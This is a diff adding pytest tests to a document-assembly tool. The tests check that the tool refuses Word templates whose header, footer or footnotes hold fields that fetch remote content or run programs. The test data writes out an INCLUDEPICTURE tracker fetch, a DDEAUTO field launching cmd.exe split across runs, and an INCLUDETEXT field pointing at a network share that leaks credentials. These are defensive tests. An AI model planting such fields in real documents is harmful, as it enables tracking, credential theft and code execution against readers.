@@ -202,6 +202,74 @@ def test_a_macro_enabled_document_or_a_word_template_renamed_docx_says_what_it_i
     assert not (root / "build").exists()
 
 
+_WML = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+
+def _complex(*pieces: str) -> str:
+    """A paragraph with a complex field whose instruction is written over a run for each piece."""
+    runs = "".join(f"<w:r><w:instrText xml:space=\"preserve\">{piece}</w:instrText></w:r>" for piece in pieces)
+    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/>'
+            '</w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+def _with_story(kind: str, body: str) -> bytes:
+    """The template with a part of `kind` (footer, header or footnotes) holding `body`, named from the document."""
+    root = {"footnotes": "footnotes", "footer": "ftr", "header": "hdr"}[kind]
+    types = {"footnotes": "footnotes", "footer": "footer", "header": "header"}[kind]
+    with zipfile.ZipFile(io.BytesIO(TEMPLATE)) as package:
+        rels, content_types, document = (package.read(name) for name in (
+            "word/_rels/document.xml.rels", "[Content_Types].xml", "word/document.xml"))  # fmt: skip
+    part = f'<?xml version="1.0" encoding="UTF-8"?><w:{root} {_WML}>{body}</w:{root}>'.encode()
+    reference = f'<w:{kind}Reference w:type="default" r:id="rIdStory"/>'.encode() if kind != "footnotes" else b""
+    return rezip(TEMPLATE, replace={
+        f"word/{kind}1.xml": part,
+        "word/_rels/document.xml.rels": _with_relationship(rels, f"{_RELS}/{kind}", f"{kind}1.xml", False).replace(
+            b"rIdHostile", b"rIdStory"),
+        "[Content_Types].xml": content_types.replace(b"</Types>", f'<Override PartName="/word/{kind}1.xml" ContentType='
+            f'"application/vnd.openxmlformats-officedocument.wordprocessingml.{types}+xml"/></Types>'.encode()),
+        "word/document.xml": document.replace(b"<w:pgSz", reference + b"<w:pgSz", 1),
+    })  # fmt: skip
+
+
+@pytest.mark.parametrize(("kind", "body", "said"), [
+    ("footer", '<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "https://tracker.invalid/p.png" \\d \'/></w:p>',
+     'INCLUDEPICTURE "https://tracker.invalid/p.png" \\d'),
+    ("header", _complex(" DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/c calc" '),
+     'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"'),
+    ("footnotes", '<w:footnote w:id="1"><w:p><w:fldSimple w:instr=\' INCLUDETEXT "\\\\share.invalid\\t.docx" \'/>'
+     "</w:p></w:footnote>", 'INCLUDETEXT "\\\\share.invalid\\t.docx"'),
+])  # fmt: skip
+def test_template_with_a_field_that_fetches_or_runs_what_it_names_is_refused(make_project: MakeProject, kind: str,
+                                                                             body: str, said: str) -> None:
+    """A template's header, footer or footnotes holding a field that includes a picture or text from elsewhere, or
+    runs a program (DDE), was copied into the paper, which asks Word to update its fields when it opens (to number
+    the contents when LibreOffice did not): Word then fetched from a tracker or a network share (which is given the
+    reader's Windows credentials), or offered to start the program."""
+    root = make_project({"paper/template.docx": _with_story(kind, body)}, git=True)
+    for command in ("validate", "assemble"):
+        result = cli("--project", str(root), command, *(["--no-layout"] if command == "assemble" else []))
+        assert result.exit_code == 1, result.stderr
+        assert (f"paper/template.docx: error COE802 the template: word/{kind}1.xml holds a field that has Word fetch "
+                f"or run what it names when the paper's fields are updated ({said}); refusing to copy it into the "
+                "paper") in result.stderr, result.stderr
+    assert not (root / "build").exists()
+
+
+def test_template_with_page_numbers_and_a_link_in_its_footer_is_used(make_project: MakeProject,
+                                                                      tmp_path: Path) -> None:  # fmt: skip
+    """The fields a footer holds to number pages or link to the partnership's site fetch nothing: the template is
+    used, and its footer's fields are in the paper (read back with python-docx)."""
+    from docx import Document
+
+    footer = (_complex(" PAGE ") + '<w:p><w:fldSimple w:instr=\' HYPERLINK "https://example.org/partnership" \'>'
+              "<w:r><w:t>partnership</w:t></w:r></w:fldSimple></w:p>")  # fmt: skip
+    root = make_project({"paper/template.docx": _with_story("footer", footer)})
+    result = cli("--project", str(root), "assemble", "--no-layout", "-o", str(tmp_path / "paper.docx"))
+    assert result.exit_code == 0, result.stderr
+    xml = "".join(section.footer._element.xml for section in Document(str(tmp_path / "paper.docx")).sections)
+    assert " PAGE " in xml and "https://example.org/partnership" in xml
+
+
 def test_template_with_a_hyperlink_in_its_footer_is_used(make_project: MakeProject, tmp_path: Path) -> None:
     """A hyperlink is the one relationship that may leave the template: the reader follows it, Word fetches nothing."""
     with zipfile.ZipFile(io.BytesIO(TEMPLATE)) as package:
